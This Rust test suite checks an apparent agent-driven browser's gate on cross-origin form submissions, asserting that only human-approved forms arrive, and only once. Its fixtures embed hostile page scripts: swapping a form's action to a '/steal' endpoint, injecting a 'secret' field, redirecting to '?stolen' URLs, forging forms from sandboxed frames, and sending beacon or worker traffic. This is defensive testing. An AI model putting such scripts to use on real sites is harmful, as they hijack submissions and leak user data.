//! Forms that go to another origin. What a person approved arrives there once, and nothing else does.

use crate::site::{Site, answer, html, reference};
use deputy_browser::{Browser, Changes, Info, Until};
use deputy_messages::Phrase;
use std::sync::Arc;

/// Allows the given origins, and by hand everything except denied origins. Pages load from their own origin.
#[derive(Clone)]
struct Asks {
    allowed: Vec<String>,
    denied: Vec<String>,
    by_hand: bool,
}

fn origin(url: &str) -> String {
    url::Url::parse(url).unwrap().origin().ascii_serialization()
}

impl deputy_web::Gate for Asks {
    fn admits(&self, url: &str) -> Result<(), Phrase> {
        let origin = origin(url);
        match self.allowed.contains(&origin) || self.by_hand && !self.denied.contains(&origin) {
            true => Ok(()),
            false => Err("it is not on the list".into()),
        }
    }

    fn admits_part(&self, page: &str, url: &str) -> Result<(), Phrase> {
        if origin(page) == origin(url) { Ok(()) } else { self.admits(url) }
    }

    fn connects(&self, _: &str, _: std::net::IpAddr) -> Result<(), Phrase> {
        Ok(())
    }

    fn by_hand(&self) -> Arc<dyn deputy_web::Gate> {
        Arc::new(Self { by_hand: true, ..self.clone() })
    }
}

async fn allowing(sites: &[&Site]) -> Browser {
    let allowed = sites.iter().map(|site| site.origin()).collect();
    Browser::open(Arc::new(Asks { allowed, denied: Vec::new(), by_hand: false })).await.unwrap()
}

/// A site that accepts forms and answers with a page that loads an image from the same site.
async fn shop() -> Site {
    Site::new(|target| match target {
        "/picture" => Some(answer("200 OK", "content-type: image/gif\r\n", "GIF89a")),
        "/again" => Some(answer("303 See Other", "location: /thanks\r\n", "")),
        "/on" => Some(answer("302 Found", "location: http://127.0.0.1:9/\r\n", "")),
        _ => Some(html("<h1>Thanks</h1><img src=/picture>")),
    })
    .await
}

/// A site with a single page. `{shop}` is replaced by the target of its forms.
async fn page(shop: &Site, body: &str) -> Site {
    let body = body.replace("{shop}", &shop.origin()).replace("{host}", &shop.at.to_string());
    Site::new(move |target| (target == "/").then(|| html(&body))).await
}

/// Returns what was known about an element, which is what a person is asked about.
fn seen(browser: &Browser, changes: &Changes, named: &str) -> (String, Info) {
    let reference = reference(changes, named);
    let info = browser.element(&reference).unwrap().info;
    (reference, info)
}

async fn opened(browser: &Browser, site: &Site) -> Changes {
    browser.navigate(&site.url("/"), Until::Loaded).await.unwrap()
}

/// Clicks the element of a line with a person's approval.
async fn agreed(browser: &Browser, changes: &Changes, named: &str) -> Changes {
    let (reference, info) = seen(browser, changes, named);
    assert!(info.elsewhere.is_some(), "{named} is not asked about");
    browser.click(&reference, &info).await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
#[expect(clippy::too_many_lines, reason = "a table of forms")]
async fn a_form_that_was_agreed_to_arrives_in_each_way_that_pages_send_one() {
    const FIELDS: &str = "<input aria-label=Name name=name value='Ada &amp; Bo'><input type=hidden name=id value=7>\
        <input type=password name=pass value=s3cret aria-label=Pass><input type=checkbox name=gift checked>\
        <input type=checkbox name=no><select name=fruit><option>Pear<option selected>Plum</select>\
        <textarea name=note>one\ntwo</textarea><input name=off disabled value=x>";
    const SENT: &str = "name=Ada+%26+Bo&id=7&pass=s3cret&gift=on&fruit=Plum&note=one%0D%0Atwo";
    for (form, press, expected) in [
        ("<form action={shop}/get>{f}<button>Go</button></form>", false, "GET /get?{s}"),
        (
            "<form action='{shop}/post?a=b#c' method=post>{f}<button>Go</button></form>",
            false,
            "POST /post?a=b {s}",
        ),
        (
            "<form action={shop}/enter method=post>{f}<button name=how value=enter>Go</button></form>",
            true,
            "POST /enter {s}&how=enter",
        ),
        (
            "<form id=f action={shop}/far method=post>{f}</form><button form=f name=a value=1>Go</button>",
            false,
            "POST /far {s}&a=1",
        ),
        (
            "<form action=/near>{f}<button formaction={shop}/own formmethod=post name=b>Go</button><button name=other value=x>No</button></form>",
            false,
            "POST /own {s}&b=",
        ),
        // Enter presses the first button, which sends the form to another origin.
        (
            "<form action=/near>{f}<button formaction={shop}/first formmethod=post>Go</button></form>",
            true,
            "POST /first {s}",
        ),
        (
            "<form action={shop}/tab method=post target=_blank>{f}<button>Go</button></form>",
            false,
            "POST /tab {s}",
        ),
        (
            "<form action={shop}/frame method=post target=inside>{f}<button>Go</button></form><iframe name=inside></iframe>",
            false,
            "POST /frame {s}",
        ),
        (
            "<base href={shop}/base/><form action=relative method=post>{f}<input type=submit value=Go></form>",
            false,
            "POST /base/relative {s}",
        ),
        (
            "<form action={shop}/plain method=post enctype=text/plain>{f}<button>Go</button></form>",
            false,
            "POST /plain name=Ada & Bo",
        ),
        (
            "<form action={shop}/parts method=post enctype=multipart/form-data>{f}<button>Go</button></form>",
            false,
            "POST /parts ------",
        ),
        (
            "<form action={shop}/image>{f}<input type=image alt=Go name=at width=30 height=30></form>",
            false,
            "GET /image?{s}&at.x=",
        ),
    ] {
        let shop = shop().await;
        let site = page(&shop, &form.replace("{f}", FIELDS)).await;
        let browser = allowing(&[&site]).await;
        let page = opened(&browser, &site).await;
        let done = match press {
            true => {
                let (field, info) = seen(&browser, &page, "\"Name\"");
                let elsewhere = info.elsewhere.clone().unwrap_or_else(|| panic!("{form}: not asked about"));
                assert_eq!(elsewhere.to, shop.origin());
                assert!(elsewhere.fields.contains(&("pass".into(), "(hidden)".into())), "{elsewhere:?}");
                browser.press(Some(&field), "Enter", &info).await.unwrap()
            }
            false => agreed(&browser, &page, "\"Go\"").await,
        };
        let asked = shop.asked();
        let forms: Vec<&String> = asked.iter().filter(|asked| !asked.contains("/picture")).collect();
        let expected = expected.replace("{s}", SENT);
        assert!(forms.len() == 1 && forms[0].starts_with(&expected), "{form}: {asked:?}\n{:?}", done.notes);
        let is_frame = form.contains("<iframe");
        assert!(is_frame || done.blocked.is_empty(), "{form}: {:?}", done.blocked);
        // The answering page may load from its own origin only if it is a page and not a frame.
        assert_eq!(asked.iter().any(|asked| asked == "GET /picture"), !is_frame, "{form}: {asked:?}");
        assert!(done.now.lines.iter().any(|line| line.contains("Thanks")), "{form}: {:?}", done.now.lines);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_submission_and_a_link_to_the_same_place_are_not_covered() {
    let shop = shop().await;
    let body = "<form action={shop}/again method=post><button name=a value=1>Go</button></form><a href={shop}/link>Link</a>";
    let site = page(&shop, body).await;
    let browser = allowing(&[&site]).await;
    let first = opened(&browser, &site).await;
    let done = agreed(&browser, &first, "\"Go\"").await;
    // The answer redirects within the approved origin.
    assert_eq!(done.now.url, shop.url("/thanks"));
    let once = ["POST /again a=1", "GET /thanks", "GET /picture"].map(str::to_owned);
    assert_eq!(shop.asked(), once);

    let again = opened(&browser, &site).await;
    let (button, info) = seen(&browser, &again, "\"Go\"");
    let unasked = browser.click(&button, &Info::default()).await.unwrap_err().to_string();
    assert!(unasked.contains("is not any more what was asked about"), "{unasked}");
    let link = browser.click(&reference(&again, "\"Link\""), &Info::default()).await.unwrap();
    assert_eq!(link.blocked.keys().cloned().collect::<Vec<_>>(), [shop.origin()]);
    let opened = browser.navigate(&shop.url("/"), Until::Loaded).await.unwrap_err().to_string();
    assert!(opened.contains("it is not on the list"), "{opened}");
    assert_eq!(shop.asked(), once);
    browser.click(&button, &info).await.unwrap();
    assert_eq!(shop.asked().len(), 2 * once.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_page_makes_of_the_form_after_it_was_agreed_to_is_not_sent() {
    const FORM: &str = "<form id=f action={shop}/pay method=post><input name=to value=me><button id=b>Go</button></form><script>";
    for (what, script) in [
        ("another path", "b.onmousedown = () => f.action = '{shop}/steal'"),
        ("another origin that is allowed", "b.onmousedown = () => f.action = '{other}/steal'"),
        ("another value", "b.onmousedown = () => f.to.value = 'you'"),
        ("one more value", "f.onformdata = event => event.formData.append('secret', 'x')"),
        ("another method", "f.onsubmit = () => { f.method = 'get' }"),
        ("a page instead", "f.onsubmit = event => { event.preventDefault(); location = '{shop}/?stolen' }"),
        (
            "a page of the other origin",
            "f.onsubmit = event => { event.preventDefault(); location = '{other}/?stolen' }",
        ),
        (
            "another form",
            "f.onsubmit = event => { event.preventDefault(); const g = document.createElement('form'); g.method = 'post'; g.action = '{other}/steal'; document.body.append(g); g.submit() }",
        ),
        ("a tab", "f.onsubmit = event => { event.preventDefault(); open('{shop}/?stolen') }"),
        (
            "a script's request",
            "f.onsubmit = event => { event.preventDefault(); fetch('{shop}/pay', {method: 'POST', mode: 'no-cors', body: 'to=me'}) }",
        ),
    ] {
        let (shop, other) = (shop().await, Site::new(|_| Some(html("other"))).await);
        let site =
            page(&shop, &format!("{FORM}{}</script>", script.replace("{other}", &other.origin()))).await;
        let browser = allowing(&[&site, &other]).await;
        let page = opened(&browser, &site).await;
        let after = agreed(&browser, &page, "\"Go\"").await;
        assert_eq!(shop.asked(), Vec::<String>::new(), "{what}");
        assert_eq!(other.asked(), Vec::<String>::new(), "{what}");
        let is_there = browser.tabs().iter().any(|tab| tab.contains(&site.url("/")));
        assert!(is_there, "{what}: {:?}", browser.tabs());
        let told = !after.notes.is_empty() || !after.blocked.is_empty();
        assert!(told, "{what}: {after:?}");
    }
    // The form was changed before the click, so the approved form no longer exists.
    let shop = shop().await;
    let site = page(&shop, &format!("{FORM}</script>")).await;
    let browser = allowing(&[&site]).await;
    let page = opened(&browser, &site).await;
    for change in [
        "f.action = '/x'",
        "f.action = '{shop}/steal'",
        "f.to.value = 'you'",
        "f.method = 'get'",
        "b.name = 'c'",
    ] {
        let (button, info) = seen(&browser, &page, "\"Go\"");
        browser.evaluate(&change.replace("{shop}", &shop.origin()), false).await.unwrap();
        let changed = browser.click(&button, &info).await.unwrap_err().to_string();
        assert!(changed.contains("is not any more what was asked about"), "{change}: {changed}");
    }
    assert_eq!(shop.connections(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_of_the_own_origin_does_not_become_one_to_another() {
    let other = Site::new(|_| Some(html("other"))).await;
    for script in [
        "b.onmousedown = () => f.action = '{shop}/x'",
        "b.onclick = () => { f.action = '{shop}/x'; f.submit() }",
        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = '_blank' }",
        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = '_blank'; f.rel = 'opener' }",
        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = 'inside' }",
        "b.onclick = () => { f.action = '{shop}/x'; f.submit(); for (const end = Date.now() + 200; Date.now() < end;); }",
    ] {
        let site = page(&other, &format!("<iframe name=inside></iframe><form id=f method=post><input name=a value=1><button id=b>Go</button></form><script>{script}</script>")).await;
        let browser = allowing(&[&site, &other]).await;
        let page = opened(&browser, &site).await;
        let after = browser.click(&reference(&page, "\"Go\""), &Info::default()).await.unwrap();
        assert_eq!(other.asked(), Vec::<String>::new(), "{script}");
        assert!(is_told(&after), "{script}: {:?}", after.notes);
    }
}

fn is_told(changes: &Changes) -> bool {
    changes.notes.iter().any(|note| note.contains("that was not asked about"))
}

/// Reads the browser until it tells that a form was not sent, or `site` has received one.
async fn refused(browser: &Browser, last: Changes, site: &Site, what: &str) {
    let reading = async {
        let mut page = last;
        while !is_told(&page) {
            page = browser.wait(&Until::Parsed, std::time::Duration::from_secs(5)).await.unwrap();
            assert_eq!(site.asked(), Vec::<String>::new(), "{what}");
        }
    };
    let read = tokio::time::timeout(std::time::Duration::from_secs(20), reading).await;
    assert!(read.is_ok(), "{what}: not told");
    assert_eq!(site.asked(), Vec::<String>::new(), "{what}");
}

/// Does something on a page whose script sends a form to another origin 400 ms later.
async fn sends_late(action: &str, script: &str) {
    const PAGE: &str = "<iframe name=inside></iframe><form id=f method=post><input id=i name=a aria-label=Name>\
        <select id=s aria-label=Fruit><option>Pear<option>Plum</select><button id=b>Go</button></form>\
        <button>Elsewhere</button><script>const send = (form = f) => { form.action = '{shop}/steal'; form.submit() };\
        const later = (what = send) => setTimeout(() => what(), 400); f.onsubmit = () => false;";
    let other = Site::new(|_| Some(html("other"))).await;
    let main = format!("{PAGE}{script}</script>").replace("{shop}", &other.origin());
    let site = Site::new(move |target| match target {
        "/" => Some(html(&main)),
        "/tab" => Some(html("<button onclick=opener.go()>Go</button>")),
        _ => Some(html("next")),
    })
    .await;
    let browser = allowing(&[&site, &other]).await;
    let page = opened(&browser, &site).await;
    let (plain, named) = (Info::default(), |name: &str| reference(&page, name));
    let done = match action {
        "press" => browser.press(Some(&named("\"Name\"")), "Enter", &plain).await,
        "fill" => browser.fill(&named("\"Name\""), "x", &plain).await,
        "select" => browser.select(&named("\"Fruit\""), &["Plum".into()]).await,
        _ => browser.click(&named("\"Go\""), &plain).await,
    };
    let mut done = done.unwrap();
    let then = match action {
        "click twice" => Some(named("\"Elsewhere\"")),
        "click in another tab" => Some(reference(&done, "\"Go\"")),
        _ => None,
    };
    if let Some(then) = then.filter(|_| !is_told(&done)) {
        done = browser.click(&then, &plain).await.unwrap();
    }
    refused(&browser, done, &other, &format!("{action}: {script}")).await;
}

// The judgement of a form once depended on the time since the action.
#[tokio::test(flavor = "multi_thread")]
async fn a_form_that_a_script_sends_long_after_an_action_does_not_go_to_another_origin() {
    for (action, script) in [
        ("click", "b.onclick = () => later()"),
        ("click twice", "b.onclick = () => later()"),
        ("click in another tab", "b.onclick = () => open('/tab'); window.go = () => later()"),
        ("press", "f.onsubmit = () => { later(); return false }"),
        ("fill", "i.oninput = () => later()"),
        ("select", "s.onchange = () => later()"),
    ] {
        sends_late(action, script).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn such_a_form_does_not_go_there_from_a_frame_or_a_tab_or_unnamed() {
    for script in [
        "b.onclick = () => { f.target = 'inside'; later() }",
        "b.onclick = () => { f.target = '_blank'; later() }",
        "b.onclick = () => { f.target = '_blank'; f.rel = 'opener'; later() }",
        // The page is gone when the request is made.
        "b.onclick = () => { f.target = '_blank'; later(() => { send(); location = '/next' }) }",
        // The page fills an empty tab.
        "b.onclick = () => { const tab = open(); later(() => { tab.document.write('<form method=post>'); send(tab.document.forms[0]) }) }",
        // The browser does not tell which page sends the others.
        "b.onclick = () => { f.rel = 'noreferrer'; later() }",
        "b.onclick = () => { f.rel = 'noreferrer'; f.target = '_blank'; later() }",
        "const inner = document.createElement('iframe'); inner.sandbox = 'allow-scripts allow-forms';\
         inner.srcdoc = `<form method=post action={shop}/steal></form><script>onmessage = () => document.forms[0].submit()</` + `script>`;\
         document.body.append(inner); b.onclick = () => later(() => inner.contentWindow.postMessage('', '*'))",
    ] {
        sends_late("click", script).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_nothing_was_done_on_send_their_forms() {
    const SENDS: &str =
        "<form id=g method=post action={to}><input name=token value=1></form><script>g.submit()</script>";
    for (what, first) in [
        ("a page", SENDS),
        ("the page after a link", "<a href=/sends>Go</a>"),
        ("the page in a new tab", "<a href={other}/sends target=_blank rel=opener>Go</a>"),
        (
            "a page that hides where it comes from, to itself",
            "<meta name=referrer content=no-referrer><form method=post action=/own><button>Go</button></form>",
        ),
    ] {
        let back = Site::new(|_| Some(html("<h1>Signed in</h1>"))).await;
        let sends = SENDS.replace("{to}", &back.url("/token"));
        let other = Site::new({
            let sends = sends.clone();
            move |_| Some(html(&sends))
        })
        .await;
        let first = first.replace("{to}", &back.url("/token")).replace("{other}", &other.origin());
        let site = Site::new(move |target| match target {
            "/" => Some(html(&first)),
            "/sends" => Some(html(&sends)),
            _ => Some(html("<h1>Signed in</h1>")),
        })
        .await;
        let browser = allowing(&[&site, &other, &back]).await;
        let page = opened(&browser, &site).await;
        let mut notes = page.notes.clone();
        if page.now.lines.iter().any(|line| line.contains("\"Go\"")) {
            notes.extend(browser.click(&reference(&page, "\"Go\""), &Info::default()).await.unwrap().notes);
        }
        let signed_in = Until::Text("Signed in".into());
        let done = browser.wait(&signed_in, std::time::Duration::from_secs(10)).await;
        assert!(done.is_ok(), "{what}: {done:?} {notes:?}");
        let is_sent = |site: &Site| site.asked().iter().any(|asked| asked.starts_with("POST"));
        assert!(is_sent(&back) || is_sent(&site), "{what}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_else_uses_what_was_opened_for_a_form() {
    // Everything that a page can send on its own, repeatedly, before, during and after sending the form to another tab.
    const NOISE: &str = "<form action={shop}/pay method=post target=_blank><button name=a value=1>Go</button></form>\
        <iframe name=inside></iframe><script>\
        const each = () => { fetch('{shop}/fetch', {mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon('{shop}/beacon', 'x');\
        new Image().src = '{shop}/image?' + Math.random(); try { new WebSocket('ws://{host}/socket') } catch {}\
        frames[0].location = '{shop}/inside?' + Math.random(); }; setInterval(each, 20);\
        const again = what => `setInterval(() => fetch('{shop}/${what}', {mode: 'no-cors'}).catch(() => {}), 20)`;\
        new Worker(URL.createObjectURL(new Blob([again('worker')])));\
        new SharedWorker('data:text/javascript,' + encodeURIComponent(again('shared')));\
        navigator.serviceWorker.register('/service.js')</script>";
    let shop = shop().await;
    let noise = NOISE.replace("{shop}", &shop.origin()).replace("{host}", &shop.at.to_string());
    let service = format!(
        "setInterval(() => fetch('{}/service', {{mode: 'no-cors'}}).catch(() => {{}}), 20)",
        shop.origin()
    );
    let site = Site::new(move |target| match target {
        "/" => Some(html(&noise)),
        "/service.js" => Some(answer("200 OK", "content-type: text/javascript\r\n", &service)),
        _ => None,
    })
    .await;
    let browser = allowing(&[&site]).await;
    let page = browser.navigate(&site.url("/"), Until::Parsed).await.unwrap();
    agreed(&browser, &page, "\"Go\"").await;
    let _ = browser.wait(&Until::Text("never".into()), std::time::Duration::from_millis(700)).await;
    let mut asked = shop.asked();
    asked.sort();
    assert_eq!(asked, ["GET /picture", "POST /pay a=1"]);
    // When its page is closed, its origin is no longer allowed.
    browser.close(2).await.unwrap();
    let _ = browser.wait(&Until::Text("never".into()), std::time::Duration::from_millis(300)).await;
    assert_eq!(shop.asked().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_to_another_origin_is_judged_and_a_denied_host_gets_no_form() {
    let shop = shop().await;
    let body = "<form action={shop}/on method=post><button name=a value=1>Go</button></form>";
    let site = page(&shop, body).await;
    let browser = allowing(&[&site]).await;
    let page = opened(&browser, &site).await;
    let done = agreed(&browser, &page, "\"Go\"").await;
    assert_eq!(shop.asked(), ["POST /on a=1"]);
    assert_eq!(done.blocked.keys().cloned().collect::<Vec<_>>(), ["http://127.0.0.1:9"]);
    assert_eq!(done.now.url, site.url("/"));

    let denied = Asks { allowed: vec![site.origin()], denied: vec![shop.origin()], by_hand: false };
    let browser = Browser::open(Arc::new(denied)).await.unwrap();
    let page = opened(&browser, &site).await;
    let refused = agreed(&browser, &page, "\"Go\"").await;
    assert_eq!((shop.asked().len(), refused.now.url), (1, site.url("/")));
}

#[tokio::test(flavor = "multi_thread")]
async fn loading_a_page_again_does_not_send_its_form_again() {
    let site = Site::new(|target| match target {
        "/" => Some(html("<form method=post action=/order><button name=a value=1>Go</button></form>")),
        _ => Some(html("Ordered")),
    })
    .await;
    let browser = allowing(&[&site]).await;
    let page = opened(&browser, &site).await;
    browser.click(&reference(&page, "\"Go\""), &Info::default()).await.unwrap();
    browser.reload().await.unwrap();
    assert_eq!(site.asked(), ["GET /", "POST /order a=1", "GET /order"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_do_not_go_unseen_to_what_is_in_a_frame_or_a_component() {
    const PAGE: &str = "<div id=open></div><div id=closed></div><input id=plain>\
        <iframe srcdoc='<input type=password>'></iframe><script>for (const at of document.querySelectorAll('div')) {\
        const root = at.attachShadow({mode: at.id, delegatesFocus: true}); root.innerHTML = '<input type=password>' }</script>";
    let site = Site::new(|target| (target == "/").then(|| html(PAGE))).await;
    let browser = allowing(&[&site]).await;
    opened(&browser, &site).await;
    for at in [
        "document.querySelector('#open')",
        "document.querySelector('#closed')",
        "document.querySelector('iframe').contentDocument.querySelector('input')",
    ] {
        browser.evaluate(&format!("{at}.focus()"), false).await.unwrap();
        for keys in ["s e c r e t", "Enter"] {
            let refused = browser.press(None, keys, &Info::default()).await.unwrap_err().to_string();
            assert!(refused.contains("give the reference"), "{at}: {refused}");
        }
        browser.press(None, "ArrowDown", &Info::default()).await.unwrap();
    }
    browser.evaluate("plain.focus()", false).await.unwrap();
    browser.press(None, "a b", &Info::default()).await.unwrap();
    assert_eq!(browser.evaluate("plain.value", true).await.unwrap().0, "ab");
}
